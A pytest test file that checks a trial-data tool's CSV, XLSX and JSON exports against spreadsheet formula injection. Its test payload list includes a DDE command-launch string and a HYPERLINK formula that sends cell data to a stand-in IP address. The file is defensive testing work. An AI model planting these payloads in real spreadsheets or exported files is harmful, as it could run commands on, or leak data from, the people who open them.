"""Words that a spreadsheet would run, typed by people or brought in by a file: in every table they stay words."""

import csv
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from trial.cli import main
from trial.files.table import COLUMNS
from trial.settings import DATA, settings

RUN = (
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://192.0.2.1/?"&A1)', "\t=1+1", "\n=1+1",
)  # fmt: skip
FREE = [column.name for column in COLUMNS if column.kind == "free text"]


@pytest.fixture
def exported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Path]:
    """A trial full of such words, taken out as a file."""
    monkeypatch.setenv("ITB_DATABASE_URL", f"sqlite:///{tmp_path / 'trials.db'}")
    settings.cache_clear()
    tree = json.loads((DATA / "demo" / "under_way.json").read_bytes())
    tree["person"] |= {"identifier": RUN[0], "name": RUN[3], "notes": RUN[4]}
    for goal, words in zip(tree["goals"], RUN, strict=False):
        goal["words"] = words
    (dose,) = tree["doses"]
    for number, reading in enumerate(dose["readings"]):
        reading["note"] = RUN[number % len(RUN)]
        reading["by"] = RUN[number % 6]
    dose["words"] = [{"by": "person", "slot": "+1h", "text": words} for words in RUN]
    (tmp_path / "in.json").write_text(json.dumps(tree))
    assert main(["import", str(tmp_path / "in.json")]) == 0

    def export(*command: str) -> Path:
        assert main(["export", *command, "-o", str(tmp_path / "out")]) == 0
        return tmp_path / "out"

    yield export
    settings.cache_clear()


@pytest.mark.parametrize("which", ["demo-birch", "--all"])
def test_no_free_text_of_a_table_begins_as_a_formula(exported: Callable[..., Path], which: str) -> None:
    with exported(which, "--format", "csv").open(newline="", encoding="utf-8-sig") as lines:
        rows = list(csv.DictReader(lines))
    begun = {row[name].lstrip("\t\r\n")[:1] for row in rows for name in FREE}
    assert begun & set("=+-@") == set()
    assert {row["note"] for row in rows} == {f"'{words}" for words in RUN}


def test_the_workbook_holds_them_as_they_are_and_none_is_a_formula_or_a_link(exported: Callable[..., Path]) -> None:
    file = exported("demo-birch", "--format", "xlsx")
    book = load_workbook(file.rename(file.with_suffix(".xlsx")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert "f" not in {cell.data_type for cell in cells}
    assert [cell for cell in cells if cell.hyperlink] == []
    assert set(RUN) - {cell.value for cell in cells} == set()


def test_the_record_gives_them_back_unchanged(exported: Callable[..., Path]) -> None:
    (dose,) = json.loads(exported("demo-birch", "--format", "json").read_bytes())["doses"]
    assert {one["note"] for one in dose["readings"]} == set(RUN)
